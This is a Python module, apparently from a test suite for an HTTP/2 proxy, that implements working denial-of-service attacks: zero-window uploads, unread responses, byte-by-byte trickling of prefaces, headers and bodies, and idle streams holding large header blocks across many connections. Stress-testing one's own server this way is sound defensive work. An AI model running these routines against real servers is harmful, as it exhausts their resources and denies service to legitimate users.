"""The attacks that hold something on a connection: streams, answers that are not read, frames that never end."""

import ssl
import time
from collections.abc import Callable, Sequence

from proxy.http2 import frames

from .attack_wire import REQUEST, Attack, Link, Windows, headers, hold, literal, opening

_BODY = bytes(1 << 20)
_TRICKLERS = 200
_IDLERS = 40
_LARGE_IDLERS = 8
_READERS = 16


# -- answers that nobody takes


def zero_window(attack: Attack) -> None:
    """Bodies go up one stream after another, so that each answer is complete at the upstream; none has a window."""
    links: list[Link] = []
    while attack.alive():
        link = attack.connect(opening({4: 0}))
        if link is None:
            continue
        _upload(attack, link)
        if link.open and len(links) < 3:
            links.append(link)  # full: its answers stay pinned, and the next connection takes over
        else:
            link.close()
        while len(links) == 3 and attack.alive():
            attack.sleep(0.1)
            _reap(links)
    for link in links:
        link.drain()
        link.close()


def _reap(links: list[Link]) -> None:
    for link in [link for link in links if not link.drain()]:
        link.close()
        links.remove(link)


def _upload(attack: Attack, link: Link) -> None:
    windows = Windows(link)
    while not windows.settled and link.wait():
        pass
    for number in range(min(windows.max_streams, 100)):
        if not _upload_one(attack, link, windows, 1 + 2 * number):
            return


def _upload_one(attack: Attack, link: Link, windows: Windows, stream_id: int) -> bool:
    if not link.send(headers(stream_id)):
        return False
    left = len(_BODY)
    waited = time.monotonic()
    while left:
        size = min(left, max(windows.of(stream_id), 0), 16_384)
        if size == 0:
            if not link.wait() or time.monotonic() - waited > 2:
                return link.open and attack.alive()  # reset or stalled: the next stream
            continue
        waited = time.monotonic()
        left -= size
        windows.spend(stream_id, size)
        end = 0 if left else frames.END_STREAM
        if not link.send(frames.frame(frames.DATA, end, stream_id, _BODY[:size])):
            return False
    attack.sent += 1
    return True


def slow_reader(attack: Attack) -> None:
    """Requests of 60 KB each, which need no credit that would have to be read first; the echoes are left unread."""
    links: list[Link] = []
    body = b"".join(
        frames.frame(frames.DATA, frames.END_STREAM if last else 0, 0, _BODY[:15_000])
        for last in (False, False, False, True)
    )
    while attack.alive():
        if len(links) == _READERS:
            attack.sleep(0.1)
            continue
        link = attack.connect(opening({4: frames.MAX_WINDOW}, frames.MAX_WINDOW - 65_535), receive_buffer=4096)
        if link is None:
            continue
        windows = Windows(link)
        while not windows.settled and link.wait():
            pass
        link.wait()  # the connection's WINDOW_UPDATE, which follows
        room = windows.connection
        for i in range(1, 2 * min(windows.max_streams, 100), 2):
            room -= 60_000
            if room < 0 or not _send_for(link, headers(i) + _for_stream(body, i), 1.0):
                break
            attack.sent += 1
        links.append(link)
    for link in links:
        link.drain()
        link.close()


def _for_stream(data: bytes, stream_id: int) -> bytes:
    """Four frames of 15,000 bytes, written for stream 0, for another stream."""
    step = 15_009
    return b"".join(
        data[at : at + 5] + stream_id.to_bytes(4, "big") + data[at + 9 : at + step] for at in range(0, len(data), step)
    )


def _send_for(link: Link, data: bytes, seconds: float) -> bool:
    """Send without reading; False when the target takes nothing for so long."""
    view = memoryview(data)
    until = time.monotonic() + seconds
    while view:
        try:
            view = view[link.sock.send(view) :]
            until = time.monotonic() + seconds
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            if time.monotonic() > until:
                return False
            time.sleep(0.005)
        except OSError:
            return False
    return True


# -- byte by byte


def trickle_preface(attack: Attack) -> None:
    _trickle(attack, b"", frames.PREFACE + frames.settings({}), 0.25)


def trickle_headers(attack: Attack) -> None:
    fragment = (b"\x00\x01x\x01a") * 3000
    start = opening() + headers(1)
    _trickle(attack, start, frames.frame(frames.HEADERS, frames.END_HEADERS, 3, fragment), 0.02)


def trickle_body(attack: Attack) -> None:
    _trickle(attack, opening() + headers(1), frames.frame(frames.DATA, 0, 1, _BODY[:16_000]) * 10, 0.02)


def _trickle(attack: Attack, start: bytes, slow: bytes, pace: float) -> None:
    positions: dict[Link, int] = {}

    def turn(links: Sequence[Link]) -> None:
        for link in links:
            at = positions.get(link, 0)
            if at < len(slow):
                link.send(slow[at : at + 1], whole=False)
                positions[link] = at + 1
                attack.sent += 1

    hold(attack, _TRICKLERS, lambda: attack.connect(start), turn, pace)


# -- things left open


def idle_streams(attack: Attack) -> None:
    _hold_streams(attack, _IDLERS, headers)


def idle_headers(attack: Attack) -> None:
    block = REQUEST + b"".join(literal(b"x-%d" % number, b"v" * 3900) for number in range(15))

    def one(i: int) -> bytes:
        parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        start = frames.frame(frames.HEADERS, 0, i, parts[0])
        more = b"".join(frames.frame(frames.CONTINUATION, 0, i, part) for part in parts[1:-1])
        return start + more + frames.frame(frames.CONTINUATION, frames.END_HEADERS, i, parts[-1])

    _hold_streams(attack, _LARGE_IDLERS, one)


def _hold_streams(attack: Attack, connections: int, one: Callable[[int], bytes]) -> None:
    def opened() -> Link | None:
        link = attack.connect(opening())
        if link is None:
            return None
        windows = Windows(link)
        while not windows.settled and link.wait():
            pass
        for i in range(1, 2 * windows.max_streams, 2):
            if not link.send(one(i)):
                break
            attack.sent += 1
        return link

    hold(attack, connections, opened, lambda links: None, 0.1)
